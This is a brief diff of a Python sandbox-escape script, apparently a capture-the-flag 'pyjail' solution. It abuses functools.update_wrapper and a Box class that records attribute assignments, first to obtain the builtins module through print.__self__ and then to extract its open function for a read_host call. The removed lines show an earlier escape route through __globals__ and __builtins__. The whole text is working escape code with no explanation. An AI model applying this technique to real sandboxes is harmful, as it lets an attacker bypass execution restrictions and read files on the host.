@@ -6,13 +6,13 @@ import functools
 
 class Box:
     def __setattr__(self, name, value):
-        found.append(value)
+        found[name] = value
 
-found = []
+found = {}
 
 def trick():
-    functools.update_wrapper(Box(), won, assigned=("__globals__",), updated=())
-    table = found[0]["__builtins__"]
-    return table["open"] if isinstance(table, dict) else table.open
+    functools.update_wrapper(Box(), print, assigned=("__self__",), updated=())
+    functools.update_wrapper(Box(), found["__self__"], assigned=("open",), updated=())
+    return found["open"]
 
 read_host(trick)
